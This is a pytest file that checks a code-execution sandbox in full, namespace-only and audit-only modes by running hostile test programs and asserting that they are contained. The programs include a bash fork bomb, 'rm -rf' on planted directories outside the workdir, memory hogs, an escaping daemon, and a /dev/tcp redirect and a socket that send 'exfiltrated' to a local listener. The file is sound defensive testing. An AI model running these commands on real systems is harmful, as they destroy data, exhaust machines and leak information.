"""The sandbox against hostile programs, in each protection mode this machine supports.

Modes: `full` (namespaces + uid drop + rlimits + audit guard, the default), `namespaces` (no audit
guard: proves the kernel layers alone hold) and `audit` (no namespaces: the fallback used where
they are not permitted). Every hostile program must be scored as a failure and leave the host (the
planted files, the process table, the listener) and the harness (next program passes) intact.
"""
from __future__ import annotations

import os
import shutil
import socket
import tempfile
import textwrap
import threading
import time
from pathlib import Path

import pytest

from tasks.evaluate.sandbox import Command, Limits, run_program, run_programs, sandbox_support

TIMEOUT = 1.0
MODES = {
    "full": Limits(memory_mb=384),
    "namespaces": Limits(memory_mb=384, audit_guard=False),
    "audit": Limits(memory_mb=384, isolate=False),
}


@pytest.fixture(params=sorted(MODES))
def limits(request: pytest.FixtureRequest) -> Limits:
    lim = MODES[request.param]
    if lim.isolate and "netns" not in sandbox_support(lim):
        pytest.skip(f"namespaces not permitted here: {sandbox_support(lim)}")
    if request.param == "audit" and os.geteuid() == 0 and not lim.audit_guard:
        pytest.skip("root without namespaces or guard has no process cap")
    return lim


def sandbox_uid_processes() -> list[int]:
    """PIDs of processes running as a sandbox uid (the run's private uids are >= 2,000,000)."""
    pids = []
    for entry in Path("/proc").iterdir():
        if not entry.name.isdigit():
            continue
        try:
            for line in (entry / "status").read_text().splitlines():
                if line.startswith("Uid:") and int(line.split()[1]) >= 2_000_000:
                    pids.append(int(entry.name))
        except (OSError, ValueError, IndexError):
            continue
    return pids


def assert_harness_intact(limits: Limits) -> None:
    ok = run_program("assert sum(range(4)) == 6\nprint('ok')\n", TIMEOUT, limits)
    assert ok.status == "passed" and ok.stdout_tail.strip() == "ok", ok
    assert sandbox_uid_processes() == []


def test_plain_programs_pass_and_fail(limits: Limits) -> None:
    assert run_program("print('hello')", TIMEOUT, limits).stdout_tail == "hello\n"
    failed = run_program("def f():\n    return 1\nassert f() == 2, 'nope'\n", TIMEOUT, limits)
    assert failed.status == "failed" and "AssertionError: nope" in failed.detail
    assert run_program("import sys\nsys.exit(3)", TIMEOUT, limits).returncode == 3
    assert run_program("def broken(:\n", TIMEOUT, limits).status == "failed"
    numpy_ok = run_program("import numpy as np\nassert np.arange(4).sum() == 6\n", 10.0, limits)
    assert numpy_ok.status == "passed", numpy_ok


def test_infinite_loop_times_out_quickly() -> None:
    limits = MODES["full"]
    start = time.monotonic()
    res = run_program("while True:\n    pass\n", TIMEOUT, limits)
    assert res.status == "timeout"
    assert time.monotonic() - start < TIMEOUT + 2.0
    assert_harness_intact(limits)


def test_fork_bomb_is_contained(limits: Limits) -> None:
    bomb = textwrap.dedent("""
        import os
        refused = False
        while True:
            try:
                os.fork()
            except OSError as exc:
                if not refused:
                    print("refused", exc.errno, flush=True)
                    refused = True
    """)
    before = len(os.listdir("/proc"))
    res = run_program(bomb, TIMEOUT, limits)
    assert res.status == "timeout"
    assert "refused" in res.stdout_tail  # the process cap (or the guard) said no
    time.sleep(0.2)
    assert sandbox_uid_processes() == []
    assert len(os.listdir("/proc")) < before + 50
    assert_harness_intact(limits)


def test_escaped_daemon_does_not_survive(limits: Limits) -> None:
    program = textwrap.dedent("""
        import os, time
        if os.fork() == 0:
            os.setsid()
            time.sleep(60)
    """)
    res = run_program(program, TIMEOUT, limits)
    assert res.status in ("passed", "failed")
    time.sleep(0.2)
    assert sandbox_uid_processes() == []
    assert_harness_intact(limits)


@pytest.mark.parametrize("where", ["tmp", "home"])
def test_rm_rf_outside_workdir_fails_and_files_survive(limits: Limits, where: str, tmp_path: Path) -> None:
    if where == "tmp":
        victim = tmp_path / "victim"
        victim.mkdir()
    else:
        try:
            victim = Path(tempfile.mkdtemp(prefix=".evaluate-sandbox-test-", dir=Path.home()))
        except OSError:
            pytest.skip("home directory not writable")
    try:
        planted = victim / "planted.txt"
        planted.write_text("keep me")
        program = textwrap.dedent(f"""
            import os, shutil
            os.system("rm -rf {victim}")
            try:
                open({str(planted)!r}, "w").write("overwritten")
            except OSError:
                pass
            shutil.rmtree({str(victim)!r})
        """)
        res = run_program(program, TIMEOUT, limits)
        assert res.status == "failed", res
        assert planted.read_text() == "keep me"
    finally:
        if where == "home":
            shutil.rmtree(victim, ignore_errors=True)
    assert_harness_intact(limits)


def test_memory_hog_is_oom(limits: Limits) -> None:
    at_once = run_program(f"x = bytearray({2 * limits.memory_mb} << 20)\n", TIMEOUT, limits)
    assert at_once.status == "oom", at_once
    growing = run_program("chunks = []\nwhile True:\n    chunks.append(bytearray(10 << 20))\n", 5.0, limits)
    assert growing.status == "oom", growing
    assert_harness_intact(limits)


class Listener:
    """A TCP listener on 127.0.0.1 that records whatever connects to it."""

    def __init__(self) -> None:
        self.sock = socket.socket()
        self.sock.bind(("127.0.0.1", 0))
        self.sock.listen(8)
        self.sock.settimeout(0.2)
        self.port = self.sock.getsockname()[1]
        self.received: list[bytes] = []
        self._stop = threading.Event()
        self._thread = threading.Thread(target=self._run, daemon=True)
        self._thread.start()

    def _run(self) -> None:
        while not self._stop.is_set():
            try:
                conn, _ = self.sock.accept()
            except OSError:
                continue
            with conn:
                conn.settimeout(1.0)
                try:
                    self.received.append(conn.recv(100) or b"<connected>")
                except OSError:
                    self.received.append(b"<connected>")

    def close(self) -> None:
        self._stop.set()
        self._thread.join(timeout=2)
        self.sock.close()


def test_socket_to_local_listener_is_blocked(limits: Limits) -> None:
    listener = Listener()
    try:
        with socket.create_connection(("127.0.0.1", listener.port), timeout=2) as probe:
            probe.sendall(b"probe")  # the listener works: a real connection would be seen
        deadline = time.monotonic() + 2
        while not listener.received and time.monotonic() < deadline:
            time.sleep(0.02)
        assert listener.received == [b"probe"]
        program = textwrap.dedent(f"""
            import socket
            s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
            s.settimeout(1.0)
            s.connect(("127.0.0.1", {listener.port}))
            s.sendall(b"exfiltrated")
        """)
        res = run_program(program, TIMEOUT, limits)
        time.sleep(0.3)
        assert res.status == "failed", res
        assert listener.received == [b"probe"]
        if not limits.audit_guard:
            assert "unreachable" in res.detail.lower()  # the empty network namespace, not the guard
    finally:
        listener.close()
    assert_harness_intact(limits)


def test_huge_output_is_capped(limits: Limits) -> None:
    res = run_program("while True:\n    print('x' * 100000)\n", 5.0, limits)
    assert res.status == "output_limit", res
    assert len(res.stdout_tail) <= limits.output_tail
    big_write = run_program("import sys\nsys.stdout.write('y' * (64 << 20))\n", 5.0, limits)
    assert big_write.status == "output_limit", big_write
    assert_harness_intact(limits)


def test_string_hashing_is_fixed_across_runs() -> None:
    program = "print(list({" + ", ".join(f"'w{i}'" for i in range(30)) + "}))\n"
    outs = {run_program(program, TIMEOUT).stdout_tail for _ in range(3)}
    assert len(outs) == 1


def test_run_programs_parallel_in_order_and_deduplicated() -> None:
    codes = ["while True:\n    pass\n", "print(1)", "assert False", "while True:\n    pass\n", "print(1)",
             "import time\ntime.sleep(30)\n"]
    start = time.monotonic()
    results = run_programs(codes, 1.0, Limits(), workers=3)
    elapsed = time.monotonic() - start
    assert [r.status for r in results] == ["timeout", "passed", "failed", "timeout", "passed", "timeout"]
    assert results[1].stdout_tail == "1\n"
    assert elapsed < 2.8  # three timeouts of 1 s ran side by side, duplicates ran once


def test_isolation_layers_are_reported() -> None:
    layers = sandbox_support(Limits())
    assert "rlimits" in layers and "audit" in layers
    if os.geteuid() == 0:
        assert {"netns", "pidns", "uid"} <= set(layers), layers


# ---------------------------------------------------------------- programs in other languages (exec)
EXEC = Limits(memory_mb=512, nproc=64)
BASH = Command("test.sh", "bash test.sh\n")


def _exec_limits() -> Limits:
    if "netns" not in sandbox_support(EXEC):
        pytest.skip(f"namespaces not permitted here: {sandbox_support(EXEC)}")
    return EXEC


def test_exec_program_runs_its_toolchain_in_the_locked_down_child() -> None:
    limits = _exec_limits()
    ok = run_program('echo "$0 in $PWD as $(id -u)"\n[[ -f test.sh ]]\n', TIMEOUT, limits, BASH)
    assert ok.status == "passed", ok
    assert "exec" in ok.isolation and {"netns", "pidns", "mntns", "uid"} <= set(ok.isolation), ok.isolation
    assert "test.sh in /tmp/work as " in ok.stdout_tail and not ok.stdout_tail.strip().endswith(" 0")
    failed = run_program('echo "wrong answer" >&2\nexit 3\n', TIMEOUT, limits, BASH)
    assert failed.status == "failed" and failed.returncode == 3 and failed.detail == "wrong answer"
    looping = run_program("while :; do :; done\n", TIMEOUT, limits, BASH)
    assert looping.status == "timeout"
    assert_harness_intact(limits)


def test_exec_program_cannot_reach_the_network_or_change_host_files(tmp_path: Path) -> None:
    limits = _exec_limits()
    listener = Listener()
    try:
        victim = Path(tempfile.mkdtemp(prefix=".evaluate-sandbox-test-", dir=Path.home()))
    except OSError:
        listener.close()
        pytest.skip("home directory not writable")
    try:
        planted = victim / "planted.txt"
        planted.write_text("keep me")
        program = textwrap.dedent(f"""
            cat {planted}                       # readable, as the toolchains under a private home must be
            (exec 3<>/dev/tcp/127.0.0.1/{listener.port} && echo exfiltrated >&3) || echo "no network" >&2
            echo overwritten > {planted} || true
            rm -rf {victim} || true
            :(){{ :|:& }};: 2>/dev/null || true   # fork bomb: capped by the run's process limit, ended with it
            sleep 30
        """)
        res = run_program(program, 2.0, limits, BASH)
        time.sleep(0.3)
        assert res.status == "timeout", res
        assert res.stdout_tail.startswith("keep me") and "no network" in res.stderr_tail
        assert planted.read_text() == "keep me" and listener.received == []
        assert sandbox_uid_processes() == []
    finally:
        listener.close()
        shutil.rmtree(victim, ignore_errors=True)
    assert_harness_intact(limits)


def test_command_rejects_what_cannot_travel_to_the_fork_server() -> None:
    with pytest.raises(ValueError):
        Command("../escape.sh", "bash ../escape.sh")
    with pytest.raises(ValueError):
        Command("test.sh", "bash test.sh", env=(("A", "tab\there"),))
